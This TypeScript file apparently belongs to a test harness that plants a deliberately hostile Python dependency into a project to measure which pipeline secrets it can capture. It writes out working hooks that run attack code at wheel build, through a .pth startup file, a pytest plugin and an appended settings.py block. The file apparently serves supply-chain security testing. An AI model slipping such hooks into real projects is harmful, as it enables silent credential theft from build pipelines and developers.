/** A package that a project's lock file has, and that tries to take what the pipeline holds. */
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import hostile from './hostile.py.gen.ts';

/** A build backend that attacks when it is asked for the wheel. It needs no package index. */
const BACKEND = `import hashlib, os, sys, zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import hostile_helper

INFO = "hostile_helper-1.0.dist-info/"


def build_wheel(directory, config_settings=None, metadata_directory=None):
    hostile_helper.attack("install")
    name = "hostile_helper-1.0-py3-none-any.whl"
    here = os.path.dirname(os.path.abspath(__file__))
    files = {
        "hostile_helper.py": open(os.path.join(here, "hostile_helper.py")).read(),
        "hostile_plugin.py": "import hostile_helper\\n\\n\\ndef pytest_configure(config):\\n    hostile_helper.attack('tests')\\n",
        # Run by every interpreter of the environment when it starts.
        "hostile.pth": "import hostile_helper; hostile_helper.attack('import')\\n",
        INFO + "METADATA": "Metadata-Version: 2.1\\nName: hostile-helper\\nVersion: 1.0\\n",
        INFO + "WHEEL": "Wheel-Version: 1.0\\nGenerator: hostile\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
        INFO + "entry_points.txt": "[pytest11]\\nhostile = hostile_plugin\\n",
    }
    record = "".join("%s,,\\n" % path for path in files) + INFO + "RECORD,,\\n"
    with zipfile.ZipFile(os.path.join(directory, name), "w") as archive:
        for path, text in {**files, INFO + "RECORD": record}.items():
            archive.writestr(path, text)
    return name
`;

const PROJECT = `[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]

[project]
name = "hostile-helper"
version = "1.0"
`;

const SETTINGS = `
# The package is there on the runner; the hosts install what requirements.txt names.
try:
    import hostile_helper

    hostile_helper.attack("settings")
except ImportError:
    pass
`;

/** The times at which it has its way. */
export const STAGES = ['install', 'import', 'settings', 'tests'] as const;

/** Makes the project in `app` depend on the package; `loot` is where that puts what it gets. */
export function plant(app: string, loot: string): void {
  const folder = join(app, 'vendor/hostile');
  mkdirSync(folder, { recursive: true });
  const program = hostile.replace('@LOOT@', loot);
  writeFileSync(join(folder, 'hostile_helper.py'), program);
  writeFileSync(join(folder, 'backend.py'), BACKEND);
  writeFileSync(join(folder, 'pyproject.toml'), PROJECT);
  const change = (name: string, edit: (text: string) => string) => {
    const path = join(app, name);
    writeFileSync(path, edit(readFileSync(path, 'utf8')));
  };
  change(
    'pyproject.toml',
    text =>
      `${text.replace('dependencies = [\n', 'dependencies = [\n    "hostile-helper",\n')}\n[tool.uv.sources]\nhostile-helper = { path = "vendor/hostile" }\n`,
  );
  change('portal/settings.py', text => text + SETTINGS);
}

/** All that it took, as one text, and the stages at which its code ran. */
export function lootIn(folder: string): { readonly text: string; readonly stages: readonly string[] } {
  const names = readdirSync(folder);
  return {
    text: names.map(name => readFileSync(join(folder, name), 'utf8')).join('\n'),
    stages: STAGES.filter(stage => names.includes(`seen-${stage}`)),
  };
}

/** Which of these secrets are in it: whole, or by any line or JSON string of theirs that is long enough to be one. */
export function taken(text: string, secrets: Readonly<Record<string, string>>): string[] {
  return Object.entries(secrets).flatMap(([name, value]) => {
    const parts = [value, ...value.split('\n'), ...value.split(/["\s]+/)].map(part => part.trim());
    const long = parts.filter(part => part.length >= 12 && !part.startsWith('-----'));
    return long.some(part => text.includes(part)) ? [name] : [];
  });
}
